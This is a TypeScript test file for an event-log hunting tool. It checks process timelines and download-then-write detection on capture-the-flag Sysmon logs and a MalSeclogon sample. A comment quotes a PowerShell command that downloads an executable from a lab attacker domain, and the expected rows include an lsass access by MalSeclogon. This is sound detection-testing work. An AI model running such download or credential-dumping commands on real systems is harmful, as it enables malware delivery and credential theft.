/**
 * Process stories on real logs from the shared corpus (origins in its INVENTORY.tsv); skips with
 * a message where the corpus is absent. sytemmoon-ctf/sysmon.evtx is a CTF host where
 * powershell.exe fetched a.exe and mon.exe from msmoon.net (192.168.230.130, a lab address);
 * tutto_malseclogon.evtx holds Sysmon 1 and Security 4688 for the same processes.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';

import { EvtxFile, openFileSource } from '@evtxhunt/evtx/node';
import { StoryCollector, chainFindings, toActivity } from '@evtxhunt/hunt';

import { SHARED, SKIP_SHARED, runEvtxhunt } from './run-cli.js';

const MOON = `${SHARED}/sytemmoon-ctf/sysmon.evtx`;
const SECLOGON = `${SHARED}/evtx-attack-samples/tutto_malseclogon.evtx`;
const POWERSHELL = '{e6abc4a2-0ef7-659c-a002-000000000b00}';

interface Row {
  kind: string;
  eventId: number;
  processGuid?: string;
  summary: string;
  evidence: { recordId: string };
}

async function timelineRows(...args: string[]): Promise<Row[]> {
  const run = await runEvtxhunt('timeline', '--json', ...args);
  assert.equal(run.status, 0, run.stderr);
  return run.stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Row);
}

async function collect(path: string): Promise<StoryCollector> {
  const source = await openFileSource(path);
  const collector = new StoryCollector();
  try {
    const evtx = await EvtxFile.open(source);
    for await (const record of evtx.records()) {
      const activity = toActivity({ ...record.toStructured(), file: path });
      if (activity !== undefined) collector.add(activity);
    }
  } finally {
    await source.close();
  }
  return collector;
}

test(
  'timeline --process on sytemmoon: the parents’ starts, then powershell’s own story',
  { skip: SKIP_SHARED },
  async () => {
    const rows = await timelineRows('--process', POWERSHELL, MOON);

    assert.equal(rows.length, 31);
    assert.deepEqual(
      rows.slice(0, 7).map((row) => [row.evidence.recordId, row.kind]),
      [
        ['20', 'process-start'],
        ['197', 'process-start'],
        ['524', 'process-start'],
        ['525', 'file-create'],
        // Sysmon stamped the connection 5 ms before the DNS answer that led to it.
        ['527', 'network'],
        ['528', 'dns'],
        ['526', 'file-create'],
      ],
    );
    assert.equal(rows[5]?.summary, 'msmoon.net -> ::ffff:192.168.230.130');
    assert.equal(rows[6]?.summary, 'C:\\Sysmon\\a.exe');
    // Children: cmd.exe (652) and the schtasks.exe runs that planted mon.exe and moon.exe.
    const children = rows
      .filter((row) => row.kind === 'process-start')
      .map((r) => r.evidence.recordId);
    assert.deepEqual(children, [
      '20',
      '197',
      '524',
      '652',
      '653',
      '655',
      '666',
      '668',
      '678',
      '682',
      '684',
    ]);
  },
);

test(
  'timeline --process on tutto_malseclogon joins Security 4688 to Sysmon 1 by pid',
  { skip: SKIP_SHARED },
  async () => {
    const rows = await timelineRows('--process', '747F3D96-9ACD-61AF-D501-000000000102', SECLOGON);

    assert.deepEqual(
      rows.map((row) => [row.evidence.recordId, row.eventId, row.summary]),
      [
        ['619518', 1, 'MalSeclogon.exe  -p 636 -d 2 -l 1'],
        [
          '329919',
          4688,
          '\\Device\\Mup\\VBoxSvr\\Users\\bouss\\Downloads\\MalSeclogon-master\\x64\\Debug\\MalSeclogon.exe',
        ],
        // conhost.exe names its parent only by pid 0x17b8: the MalSeclogon.exe above.
        ['329920', 4688, 'C:\\Windows\\System32\\conhost.exe'],
        ['619520', 10, 'C:\\Windows\\system32\\lsass.exe (access 0x1410)'],
      ],
    );
  },
);

test(
  'chainFindings on sytemmoon: powershell resolves msmoon.net, connects and writes a.exe',
  { skip: SKIP_SHARED },
  async () => {
    const collector = await collect(MOON);
    const findings = chainFindings(collector, collector.table, {
      // The CTF's "internet" is the 192.168.230.0/24 lab network.
      isPublicAddress: (ip) => ip.startsWith('192.168.230.') || !/^(?:10|127|192\.168)\./.test(ip),
      isSuspiciousImage: (image) => /\\powershell\.exe$/i.test(image),
    });
    const [finding] = findings;

    // `powershell -c iwr -uri http://msmoon.net/noom.exe` (process 693) is not a chain: noom.exe
    // itself was not logged, only the CLR usage log every PowerShell writes, which is housekeeping.
    assert.equal(findings.length, 1);
    assert.ok(finding);
    assert.equal(finding.severity, 'high');
    assert.equal(finding.processGuid, POWERSHELL);
    assert.equal(finding.queriedName, 'msmoon.net');
    assert.equal(finding.destinationIp, '192.168.230.130');
    assert.equal(finding.destinationPort, 80);
    assert.equal(finding.count, 3);
    assert.deepEqual(
      finding.story?.map((step) => [step.step, step.evidence.recordId]),
      [
        ['process-start', '524'],
        ['dns', '528'],
        ['network', '527'],
        ['file-create', '526'],
      ],
    );
    assert.equal(
      finding.why,
      'powershell.exe started, asked DNS for msmoon.net, connected to 192.168.230.130:80, an ' +
        'address in that answer, and 10 ms later wrote C:\\Sysmon\\a.exe. Reported because the ' +
        'image is on the suspicious list and the file is executable content (3 files followed ' +
        'connections to this address).',
    );
  },
);

test(
  'chainFindings on sytemmoon with real address classes: no chain (github.com wrote no file)',
  { skip: SKIP_SHARED },
  async () => {
    const collector = await collect(MOON);
    const findings = chainFindings(collector, collector.table, {
      isPublicAddress: (ip) => !/^(?:10|127|192\.168|169\.254)\.|^fe80:|^::1$/i.test(ip),
      isSuspiciousImage: (image) => /\\powershell\.exe$/i.test(image),
    });

    assert.deepEqual(findings, []);
  },
);
